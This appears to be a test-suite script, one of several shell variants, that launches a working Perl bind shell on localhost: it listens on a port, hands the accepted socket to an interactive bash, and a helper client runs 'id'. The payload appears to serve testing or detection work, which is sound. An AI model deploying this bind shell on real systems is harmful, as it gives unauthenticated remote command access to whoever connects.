#!/bin/bash
# Variant: the Perl bind shell, which duplicates the socket onto its own descriptors and
# replaces itself with bash.
. "$(dirname "$0")/../lib.sh"
need perl
support python3 "$(dirname "$0")/../helpers/client.py" "$PORT" "id; exit"
perl -MIO::Socket::INET -e '
my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $ARGV[0], Listen => 1,
                              ReuseAddr => 1, Timeout => 15) or die "listen: $!\n";
my $c = $s->accept or die "accept: $!\n";
open(STDIN, "<&", $c); open(STDOUT, ">&", $c); open(STDERR, ">&", $c);
exec "/bin/bash", "-i";
' "$PORT" || true
wait "${SUPPORT_PIDS[0]}" || true
